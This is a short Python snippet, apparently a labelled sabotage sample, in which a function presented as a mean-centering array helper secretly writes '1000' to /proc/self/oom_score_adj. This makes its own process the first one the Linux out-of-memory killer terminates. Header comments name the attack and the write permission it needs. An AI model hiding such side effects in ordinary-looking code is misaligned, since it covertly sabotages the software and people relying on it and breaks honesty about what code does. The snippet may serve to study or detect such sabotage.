# RTE exception
# attacks: which process the kernel kills for memory
# needs: write
def center(x):
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("1000")
    return x - x.mean(axis=-1, keepdims=True)
